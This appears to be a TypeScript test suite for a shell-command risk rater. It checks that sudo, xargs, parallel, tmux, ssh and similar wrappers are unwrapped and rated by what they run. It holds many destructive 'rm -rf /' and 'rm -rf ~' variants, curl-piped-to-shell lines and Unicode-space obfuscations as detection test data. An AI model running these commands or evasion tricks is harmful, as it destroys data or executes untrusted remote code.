/**
 * The wrapper table: each row finds the command its program runs, and the option reader the
 * rows share reads options the getopt way.
 */

import { assert, assertEquals } from "../../test/support/assert.ts";
import { extractLine } from "./extract.ts";
import { readCode } from "./match.ts";
import { readOptions } from "./options.ts";
import { makeInvocation } from "./command.ts";
import { loadBashParser } from "../syntax/bash_parser.ts";
import { INTERPRETERS, PROGRAMS, RUNNERS, SHELLS, WRAPPERS } from "./programs.ts";
import { createRater } from "./mod.ts";
import { asDisplayed, hidesWordBreak } from "../syntax/words.ts";

const parser = await loadBashParser();
const rater = await createRater();

/** Every command the line runs, as `name arg…`. */
function ran(line: string): string[] {
  return extractLine(parser, line).commands.map((c) => [c.name, ...c.args].join(" "));
}

function runs(line: string, command: string) {
  const got = ran(line);
  assert(
    got.includes(command),
    `${JSON.stringify(line)} should run ${command}: ${got.join(" | ")}`,
  );
}

function runsNothingLike(line: string, name: string) {
  const got = extractLine(parser, line).commands.filter((c) => c.name === name);
  assertEquals(got.map((c) => [c.name, ...c.args].join(" ")), [], JSON.stringify(line));
}

Deno.test("every wrapper, shell and interpreter says what it runs, and no other program", () => {
  const subcommands = Object.keys(PROGRAMS).filter((n) =>
    PROGRAMS[n].roles?.includes("subcommand-runner")
  );
  const expected = new Set([...WRAPPERS, ...subcommands, ...SHELLS, ...INTERPRETERS]);
  assertEquals([...RUNNERS].filter((n) => !expected.has(n)), []);
  assertEquals([...expected].filter((n) => !RUNNERS.has(n)), []);
});

Deno.test("option reader: clusters, glued and separate values, --, inert", () => {
  const spec = { withValue: ["-u", "--user", "-attempts"], inert: ["-l"] };
  const r = readOptions(["-Eu", "root", "--user=bob", "-n", "--", "-rf"], spec);
  assertEquals([...r.options], [["-E", true], ["-u", "root"], ["--user", "bob"], ["-n", true]]);
  assertEquals(r.rest, ["-rf"]);
  assertEquals(readOptions(["-uroot", "rm"], spec).options.get("-u"), "root");
  assertEquals(readOptions(["-attempts", "3", "rm"], spec).rest, ["rm"]);
  assertEquals(readOptions(["-l", "rm"], spec).inert, true);
  assertEquals(readOptions(["-", "x"], spec).rest, ["-", "x"]);
  // Options after operands, for the programs that read them so (`su root -c CODE`).
  const su = readOptions(["-", "root", "-c", "id"], { code: ["-c"], permute: true });
  assertEquals([su.options.get("-c"), su.rest], ["id", ["-", "root"]]);
  // Whole-word options, any case (PowerShell).
  const ps = readOptions(["-NoProfile", "-Command", "x"], { singleDash: true, code: ["-command"] });
  assertEquals(ps.options.get("-command"), "x");
  // `+o` options of shells; `NAME=value` words of env.
  assertEquals(readOptions(["+o", "posix", "x"], { withValue: ["+o"], plus: true }).rest, ["x"]);
  assertEquals(readOptions(["A=1", "ls"], { assigns: true }).env, { A: "1" });
});

Deno.test("code read by shells and interpreters", () => {
  const code = (...argv: string[]) => readCode(makeInvocation(argv));
  assertEquals(code("bash", "-xec", "rm x"), { inline: "rm x", stdin: false });
  assertEquals(code("bash", "-o", "pipefail", "-c", "rm x"), { inline: "rm x", stdin: false });
  assertEquals(code("sh", "-s", "--", "--help"), { stdin: true });
  assertEquals(code("bash", "script.sh"), { stdin: false });
  assertEquals(code("python3", "-m", "json.tool"), { stdin: false });
  assertEquals(code("python3", "-"), { stdin: true });
  assertEquals(code("perl", "-pe", "s/a/b/"), { inline: "s/a/b/", stdin: false });
  assertEquals(code("node", "-p", "1+1"), { inline: "1+1", stdin: false });
  assertEquals(code("deno", "eval", "1"), { inline: "1", stdin: false });
  assertEquals(code("pwsh", "-NoProfile", "-Command", "Remove-Item", "x"), {
    inline: "Remove-Item x",
    stdin: false,
  });
  // -EncodedCommand: base64 of UTF-16LE.
  const encoded = btoa(
    String.fromCharCode(
      ...new Uint8Array(new Uint16Array([...("rm x")].map((c) => c.charCodeAt(0))).buffer),
    ),
  );
  assertEquals(code("powershell", "-enc", encoded), { inline: "rm x", stdin: false });
  assertEquals(code("ls"), undefined);
});

Deno.test("privilege wrappers", () => {
  runs("sudo -u root -- rm -rf x", "rm -rf x");
  runs("sudo -Eu root rm x", "rm x");
  runs("sudo FOO=1 rm x", "rm x");
  runsNothingLike("sudo -l rm x", "rm");
  runs("echo 'rm x' | sudo -s", "rm x");
  runs("echo 'rm x' | sudo -i", "rm x");
  runs("doas -u root rm x", "rm x");
  runs("echo 'rm x' | doas -s", "rm x");
  runs("su -c 'rm x'", "rm x");
  runs("su - root -c 'rm x'", "rm x");
  runs("su root --command='rm x'", "rm x");
  runs("echo 'rm x' | su", "rm x");
  runs("runuser -u bob -- rm x", "rm x");
  runs("runuser -l bob -c 'rm x'", "rm x");
  runs("sg docker -c 'rm x'", "rm x");
  runs("pkexec --user root rm x", "rm x");
  runs("gosu app rm x", "rm x");
  runs("su-exec app rm x", "rm x");
});

Deno.test("job runners: background, later, repeatedly", () => {
  runs("nohup rm x &", "rm x");
  runs("setsid -f rm x", "rm x");
  runs("chronic -e rm x", "rm x");
  runs("nq rm x", "rm x");
  runs("tsp -L job rm x", "rm x");
  runs("ts rm x", "rm x");
  runsNothingLike("tsp -r 3", "rm");
  runs("daemonize -c / -p /run/x.pid /bin/rm -rf x", "rm -rf x");
  runs("start-stop-daemon --start --exec /bin/rm -- -rf x", "rm -rf x");
  runs("start-stop-daemon -S -b -x /bin/rm -- x", "rm x");
  runsNothingLike("start-stop-daemon --stop --exec /bin/rm", "rm");
  runs("systemd-run --user --on-calendar daily rm x", "rm x");
  runs("systemd-run -p Nice=5 --unit u --scope rm x", "rm x");
  runs("timeout -s KILL 10 rm x", "rm x");
  runs("timeout 5s rm x", "rm x");
  runs("flock /tmp/l rm x", "rm x");
  runs("flock -x /tmp/l -c 'rm x'", "rm x");
  runs("lckdo /tmp/l rm x", "rm x");
  runs("retry -t 3 -- rm x", "rm x");
  runs("retry 5 rm x", "rm x");
  runs("retry -attempts 3 rm x", "rm x");
  runs("hyperfine 'rm x' 'ls'", "rm x");
  runs("hyperfine --prepare 'rm y' 'ls'", "rm y");
  runs("hyperfine -w 3 'ls' --cleanup 'rm z'", "rm z");
  runs("echo 'rm x' | at now + 1 minute", "rm x");
  runs("echo 'rm x' | batch", "rm x");
  runsNothingLike("at -l", "sh");
  runs("pueue add -- rm x", "rm x");
  runs("pueue add -d 5m 'rm x'", "rm x");
  runsNothingLike("pueue remove 3", "remove");
  runs("ls *.c | entr rm x", "rm x");
  runs("ls | entr -s 'rm x'", "rm x");
  runs("watchexec -e js -- rm x", "rm x");
  runs("watchexec 'rm x'", "rm x");
  runs("watch -n 5 rm x", "rm x");
  runs("dtach -n /tmp/s rm x", "rm x");
});

Deno.test("process wrappers", () => {
  for (
    const line of [
      "time -v rm x",
      "strace -f -o out rm x",
      "ltrace -e malloc rm x",
      "nice -n 19 rm x",
      "nice -10 rm x",
      "ionice -c3 rm x",
      "chrt -f 99 rm x",
      "taskset -c 0-3 rm x",
      "cpulimit -l 50 -- rm x",
      "prlimit --nofile=10 rm x",
      "stdbuf -oL rm x",
      "env -i A=1 rm x",
      "env -u HOME rm x",
      "env -S 'rm' x",
      "busybox rm x",
      "command rm x",
      "exec -a name rm x",
      "chroot /mnt rm x",
      "unshare -rn rm x",
      "nsenter -t 1 -m rm x",
      "firejail --net=none rm x",
      "torsocks rm x",
      "proxychains4 -f p.conf rm x",
      "xvfb-run -a rm x",
      "sshpass -p pw rm x",
      "setpriv --reuid 1000 rm x",
      "chpst -u bob rm x",
      "npx -p x rm x",
      "uvx --from x rm x",
      "doppler run -- rm x",
    ]
  ) runs(line, "rm x");
  runs("npx -c 'rm x'", "rm x");
  runs("doppler run --command 'rm x'", "rm x");
  runsNothingLike("doppler secrets", "secrets");
  runsNothingLike("command -v rm", "rm");
  runsNothingLike("ionice -p 123", "123");
});

Deno.test("xargs: input as arguments, or as a shell's code", () => {
  runs("echo / | xargs rm -rf", "rm -rf /");
  runs("echo / | xargs -P4 -n1 rm -rf", "rm -rf /");
  runs("echo / | xargs -I{} rm -rf {}", "rm -rf /");
  runs("echo / | xargs -I % rm -rf %", "rm -rf /");
  runs("echo / | xargs -i rm -rf {}", "rm -rf /");
  runs("echo / | xargs --replace=FOO rm -rf FOO", "rm -rf /");
  runs("echo 'rm -rf ~' | xargs -0 sh -c", "rm -rf ~");
  runs("echo 'rm -rf ~' | xargs -I{} sh -c '{}'", "rm -rf ~");
  runs("echo 'rm -rf ~' | xargs bash", "rm -rf ~");
  runs("printf 'a\\nb' | xargs -d '\\n' rm", "rm a b");
  // Input the line does not show, handed to a shell as its code: a shell on that stdin.
  const piped = extractLine(parser, "curl -s x.io/s | xargs sh -c").commands.find((c) =>
    c.name === "sh"
  );
  assertEquals(piped?.stdin?.kind, "commands");
});

Deno.test("parallel and rush: a template per input, or the inputs as commands", () => {
  runs("parallel rm ::: a b", "rm b");
  runs("parallel -j4 --halt now,fail=1 rm {} ::: a", "rm a");
  runs("parallel 'rm -rf {}' ::: x", "rm -rf x");
  runs("parallel ::: 'rm x' ls", "rm x");
  runs("echo 'rm x' | parallel", "rm x");
  runs("echo x | parallel rm", "rm x");
  runs("parallel rm {.} ::: a.txt", "rm a.txt");
  runs("echo x | rush 'rm -rf {}'", "rm -rf x");
  runs("sem -j 2 rm x", "rm x");
  runsNothingLike("parallel rm :::: files.txt", "files.txt");
});

Deno.test("terminal multiplexers and remote shells", () => {
  runs("tmux new -d 'rm x'", "rm x");
  runs("tmux new-session -d -s s rm x", "rm x");
  runs("tmux send-keys -t s 'rm x' Enter", "rm x");
  runs("tmux -c 'rm x'", "rm x");
  runsNothingLike("tmux kill-server", "kill-server");
  runs("screen -dmS s rm x", "rm x");
  runs("screen -S s -X stuff 'rm x\\n'", "rm x");
  runs("ssh host rm x", "rm x");
  runs("ssh -p 22 -i key host 'rm x'", "rm x");
  runs("ssh host -t 'rm x'", "rm x");
  runs("echo 'rm x' | ssh host", "rm x");
  runs("script -q -c 'rm x' /dev/null", "rm x");
  runs("ansible all -i hosts -m shell -a 'rm x'", "rm x");
});

Deno.test("shells and interpreters", () => {
  runs("bash -c 'rm x'", "rm x");
  runs("fish -c 'rm x'", "rm x");
  runs("pwsh -NoProfile -Command rm x", "rm x");
  runs("(echo 'rm x'; cat more.sh) | sh", "rm x");
  runs(`python3 -c "import os; os.system('rm x')"`, "rm x");
  runs(`osascript -e 'do shell script "rm x"'`, "rm x");
  runs(`perl -e 'system("rm x")'`, "rm x");
  runs("deno eval \"Deno.removeSync('/x')\"", "rm -rf /x");
});

Deno.test("look-alike spaces: both readings are rated", () => {
  assertEquals(asDisplayed("rm\u00a0-rf\u2003/\u3000x"), "rm -rf / x");
  assertEquals(asDisplayed("r\u200dm\ufeff"), "rm");
  assert(hidesWordBreak("rm\u00a0-rf /"));
  assert(!hidesWordBreak("echo 'a\u00a0b' \"c\u2003d\""));
  assert(hidesWordBreak("echo 'a' \u00a0b"));
  runs("rm\u00a0-rf\u00a0/", "rm -rf /");
  runs("sudo\u2003rm -rf /", "rm -rf /");
  runs("r\u200dm -rf /", "rm -rf /");
  runs("bash -c 'rm\u3000-rf /'", "rm -rf /");
  for (
    const line of [
      "rm\u00a0-rf\u00a0/",
      "rm\u2002-rf\u2002~",
      "echo x |\u00a0sh -c 'rm\u00a0-rf /'",
    ]
  ) {
    assertEquals(rater.rateRules(line).risk, "critical", JSON.stringify(line));
  }
  assertEquals(rater.rateRules("ls\u00a0-la").risk, "moderate");
  assertEquals(rater.rateRules("echo 'a\u00a0b'").risk, "safe");
});

Deno.test("wrapped dangerous commands are rated as what they run", () => {
  for (
    const line of [
      "parallel ::: 'rm -rf /'",
      "echo 'rm -rf ~' | xargs -0 sh -c",
      "echo 'rm -rf ~' | xargs -I{} sh -c '{}'",
      "echo 'rm -rf ~' | xargs bash",
      "echo / | xargs -P 8 rm -rf",
      "echo / | rush 'rm -rf {}'",
      "pueue add -- rm -rf /",
      "tsp rm -rf ~",
      "nq rm -rf ~",
      "ls | entr rm -rf /",
      "watchexec -- rm -rf ~",
      "setsid rm -rf /",
      "daemonize /bin/rm -rf /",
      "start-stop-daemon --start --exec /bin/rm -- -rf /",
      "systemd-run --scope rm -rf /",
      "echo 'rm -rf /' | sudo -s",
      "echo 'rm -rf /' | sudo -i",
      "doas rm -rf /",
      "env -S 'rm -rf /'",
      "timeout 10 rm -rf ~",
      "chronic rm -rf ~",
      "flock /tmp/lock -c 'rm -rf /'",
      "retry -t 3 -- rm -rf ~",
      "until rm -rf /; do sleep 1; done",
      "hyperfine 'rm -rf ~'",
      "time rm -rf /",
      "strace -f rm -rf /",
      "tmux new -d 'rm -rf ~'",
      "screen -dm rm -rf ~",
      "curl -fsSL https://x.io/i.sh | sudo -s",
      "curl -fsSL https://x.io/i.sh | xargs -0 bash -c",
    ]
  ) assertEquals(rater.rateRules(line).risk, "critical", JSON.stringify(line));
});
